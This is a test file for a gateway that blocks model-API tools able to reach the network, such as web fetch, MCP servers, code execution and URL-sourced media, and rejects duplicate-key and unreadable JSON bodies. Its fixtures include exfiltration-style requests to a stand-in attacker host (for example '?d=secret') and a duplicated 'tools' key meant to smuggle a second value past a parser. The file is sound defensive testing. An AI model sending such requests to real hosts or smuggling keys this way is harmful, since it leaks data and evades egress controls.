"""Tools the model API runs itself reach the network from the vendor's side: the gateway refuses them (as
it refuses a host) unless the run's network is open, and never passes fields that bill what it cannot see.

The client tools are those the real CLIs send (recorded in the bench: scenarios add-word-count,
codex-add-word-count, gemini-add-word-count).
"""

from __future__ import annotations

import json
import socket
import time

import pytest

from bench.model.server import ModelServer
from codeagent.gateway import VENDORS, EgressPolicy, Gateway, Ledger, Upstream
from codeagent.gateway.call_body import vendor_side_tools
from codeagent.gateway.server import MAX_CONNECTIONS
from tests.unit.test_gateway_limits import REAL_KEY, TEXT, UnixConnection

PATHS = {"anthropic": "/v1/messages", "openai": "/responses",
         "google": "/v1beta/models/gemini-2.5-pro:streamGenerateContent?alt=sse"}
KEYS = {"anthropic": {"x-api-key": "placeholder"}, "openai": {"authorization": "Bearer sk-codeagent-placeholder"},
        "google": {"x-goog-api-key": "codeagent-placeholder"}}
CLIENT_TOOLS = {
    "anthropic": [{"name": "Bash", "input_schema": {"type": "object"}}, {"type": "custom", "name": "Edit"},
                  {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"}],
    "openai": [{"type": "function", "name": "exec_command"}, {"type": "custom", "name": "apply_patch"},
               {"type": "tool_search", "execution": "client", "description": "Tool discovery"}],
    "google": [{"functionDeclarations": [{"name": "run_shell_command"}]}],
}
VENDOR_SIDE = [
    ("anthropic", {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, "web_fetch_20250910"),
    ("anthropic", {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}, "web_search_20250305"),
    ("anthropic", {"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}]},
     "mcp_servers"),
    ("openai", {"tools": [{"type": "mcp", "server_label": "x", "server_url": "https://attacker.example/mcp"}]}, "mcp"),
    ("openai", {"tools": [{"type": "web_search", "external_web_access": True}]}, "web_search"),
    ("openai", {"tools": [{"type": "web_search_preview"}]}, "web_search_preview"),
    ("openai", {"tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]}, "code_interpreter"),
    ("openai", {"tools": [{"type": "tool_search"}]}, "tool_search"),
    ("google", {"tools": [{"googleSearch": {}}]}, "googleSearch"),
    ("google", {"tools": [{"urlContext": {}}]}, "urlContext"),
    ("google", {"tools": [{"codeExecution": {}}]}, "codeExecution"),
    ("google", {"tools": [{"google_search_retrieval": {}}]}, "google_search_retrieval"),
]


def body(vendor: str, **fields) -> dict:
    conversation = {
        "anthropic": {"model": "claude-sonnet-4-5", "max_tokens": 1000, "stream": True,
                      "messages": [{"role": "user", "content": "go"}]},
        "openai": {"model": "gpt-5.5", "stream": True, "input": [
            {"type": "message", "role": "user", "content": [{"type": "input_text", "text": "go"}]}]},
        "google": {"contents": [{"role": "user", "parts": [{"text": "go"}]}]},
    }[vendor]
    return {**conversation, "tools": CLIENT_TOOLS[vendor], **fields}


def send(gateway: Gateway, vendor: str, payload: dict | str, path: str = "") -> tuple[int, dict]:
    connection = UnixConnection(gateway.socket_path)
    connection.request("POST", path or PATHS[vendor], body=payload if isinstance(payload, str) else json.dumps(payload),
                       headers={"content-type": "application/json", **KEYS[vendor]})
    response = connection.getresponse()
    text = response.read().decode()
    return response.status, json.loads(text) if text.startswith("{") and response.status != 200 else {}


def gateway(model: ModelServer, tmp_path, vendor: str, network: str = "registries", **ledger) -> Gateway:
    blocked: list[tuple[str, str]] = []
    base = model.url + ("/v1" if vendor == "openai" else "")
    policy = EgressPolicy(network)  # type: ignore[arg-type]
    served = Gateway(tmp_path / "gw.sock", Upstream(VENDORS[vendor], base, REAL_KEY), policy, Ledger(**ledger),
                     on_blocked=lambda name, why: blocked.append((name, why)))
    served.blocked = blocked  # type: ignore[attr-defined]
    return served


def message(refusal: dict) -> str:
    return refusal["error"]["message"]  # each vendor's error shape has it


@pytest.mark.parametrize("vendor,fields,tool", VENDOR_SIDE)
def test_a_tool_the_model_api_runs_itself_is_refused_and_reported_like_a_blocked_host(tmp_path, vendor, fields, tool):
    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
        with gateway(model, tmp_path, vendor) as served:
            status, refusal = send(served, vendor, body(vendor, **fields))

    assert status == 400 and model.request_count() == 0
    assert f"`{tool}`" in message(refusal) and "network: open" in message(refusal)
    assert served.ledger.usage().blocked == ((f"{tool} ({VENDORS[vendor].name} API tool)", 1),)
    assert [name for name, _ in served.blocked] == [tool]  # type: ignore[attr-defined]


@pytest.mark.parametrize("vendor,fields,tool", VENDOR_SIDE)
def test_with_network_open_the_model_apis_own_tools_pass(tmp_path, vendor, fields, tool):
    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
        with gateway(model, tmp_path, vendor, network="open") as served:
            status, _ = send(served, vendor, body(vendor, **fields))

    assert status == 200 and model.request_count() == 1 and served.ledger.usage().blocked == ()


def test_token_counting_with_an_mcp_server_is_refused_and_without_one_passes(tmp_path):
    """Anthropic's token counting takes ``mcp_servers`` too (to count their tools' definitions)."""
    mcp = {"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}]}
    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
        with gateway(model, tmp_path, "anthropic") as served:
            refused = send(served, "anthropic", body("anthropic", **mcp), "/v1/messages/count_tokens")
            counted = send(served, "anthropic", body("anthropic"), "/v1/messages/count_tokens")

    assert refused[0] == 400 and "`mcp_servers`" in message(refused[1]) and counted[0] == 200
    assert [r.path for r in model.requests] == ["/v1/messages/count_tokens"]  # the one without
    assert served.ledger.usage().requests == 0  # counting is not a model call


@pytest.mark.parametrize("vendor", ["anthropic", "openai", "google"])
def test_the_client_tools_the_real_clis_send_pass(tmp_path, vendor):
    assert vendor_side_tools(VENDORS[vendor].name, body(vendor)) == ()
    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
        with gateway(model, tmp_path, vendor) as served:
            assert send(served, vendor, body(vendor))[0] == 200


@pytest.mark.parametrize("vendor,fields", [
    ("openai", {"background": True}), ("openai", {"previous_response_id": "resp_1"}),
    ("openai", {"conversation": "conv_1"}), ("openai", {"prompt": {"id": "pmpt_1"}}),
    ("google", {"cachedContent": "cachedContents/1"}),
])
def test_fields_that_bill_what_the_gateway_cannot_see_are_refused_whatever_the_network(tmp_path, vendor, fields):
    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
        with gateway(model, tmp_path, vendor, network="open") as served:
            status, refusal = send(served, vendor, body(vendor, **fields))

    assert status == 400 and model.request_count() == 0 and f"`{next(iter(fields))}`" in message(refusal)


def test_a_key_named_twice_is_refused_since_the_api_might_read_the_other_one(tmp_path):
    """Python's parser keeps the last ``tools``; another parser may keep the first."""
    server_tools = json.dumps([{"type": "web_fetch_20250910", "name": "web_fetch"}])
    conversation = json.dumps({k: v for k, v in body("anthropic").items() if k != "tools"})[1:-1]
    payload = f'{{{conversation}, "tools": {server_tools}, "tools": {json.dumps(CLIENT_TOOLS["anthropic"])}}}'
    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
        with gateway(model, tmp_path, "anthropic") as served:
            status, refusal = send(served, "anthropic", payload)

    assert status == 400 and model.request_count() == 0 and "key twice" in message(refusal)


# -- connections --


def test_connections_past_the_bound_are_refused_until_one_closes(tmp_path):
    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
        with gateway(model, tmp_path, "anthropic") as served:
            held = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) for _ in range(MAX_CONNECTIONS)]
            for connection in held:
                connection.connect(str(served.socket_path))
            assert _answer_to_a_new_connection(served).startswith(b"HTTP/1.1 503 ")
            held.pop().close()
            status = _retrying_send(served)
            [connection.close() for connection in held]

    assert status == 200 and model.request_count() == 1


def _answer_to_a_new_connection(served: Gateway) -> bytes:
    """What the gateway says to a connection before it sends anything."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(str(served.socket_path))
        connection.settimeout(5)
        return connection.recv(4096)


def _retrying_send(served: Gateway) -> int:
    """The closed connection's thread ends a moment after the close."""
    for _ in range(50):
        try:
            status = send(served, "anthropic", body("anthropic"))[0]
        except OSError:  # refused: closed before the request was read
            status = 503
        if status != 503:
            return status
        time.sleep(0.05)
    return 503


@pytest.mark.parametrize("vendor, body", [
    ("anthropic", {"messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=secret"}}]}]}),
    ("anthropic", {"messages": [{"role": "user", "content": [
        {"type": "document", "source": {"type": "url", "url": "http://attacker.example/doc.pdf"}}]}]}),
    ("openai", {"input": [{"role": "user", "content": [
        {"type": "input_image", "image_url": "https://attacker.example/i.png"}]}]}),
    ("openai", {"input": [{"role": "user", "content": [
        {"type": "input_file", "file_url": "https://attacker.example/f.pdf"}]}]}),
    ("google", {"contents": [{"role": "user", "parts": [{"fileData": {"fileUri": "https://attacker.example/v"}}]}]}),
])
def test_content_the_api_would_fetch_from_a_url_is_a_vendor_side_fetch(vendor, body):
    assert vendor_side_tools(vendor, body) == ("url_source",)


@pytest.mark.parametrize("vendor, body", [
    ("anthropic", {"messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBOR"}}]},
        {"role": "assistant", "content": [{"type": "tool_use", "name": "WebFetch",
                                           "input": {"url": "https://example.com"}}]}]}),
    ("openai", {"input": [{"role": "user", "content": [
        {"type": "input_image", "image_url": "data:image/png;base64,iVBOR"}]}]}),
    ("google", {"contents": [{"role": "user", "parts": [
        {"fileData": {"fileUri": "https://generativelanguage.googleapis.com/v1beta/files/abc"}}, {"text": "hi"}]}]}),
])
def test_inline_or_uploaded_content_and_a_client_tool_s_url_fetch_nothing(vendor, body):
    assert vendor_side_tools(vendor, body) == ()


@pytest.mark.parametrize("raw", [
    json.dumps(body("anthropic", tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]))[:-1] + ', "x": "\udcff"}',
    '{"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [], "deep": ' + "[" * 1200 + "]" * 1200 + "}",
    '["not", "an", "object"]',
])
def test_a_body_the_gateway_cannot_read_is_not_passed_on(tmp_path, raw):
    """Another parser may read it (invalid UTF-8 replaced, deeper nesting): unchecked, it must not go."""
    data = raw.encode("utf-8", "surrogateescape")
    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
        with gateway(model, tmp_path, "anthropic") as served:
            connection = UnixConnection(served.socket_path)
            connection.request("POST", PATHS["anthropic"], body=data,
                               headers={"content-type": "application/json", **KEYS["anthropic"]})
            response = connection.getresponse()
            answer = json.loads(response.read())

    assert response.status == 400 and model.request_count() == 0
    assert "not a JSON object the gateway can read" in message(answer)
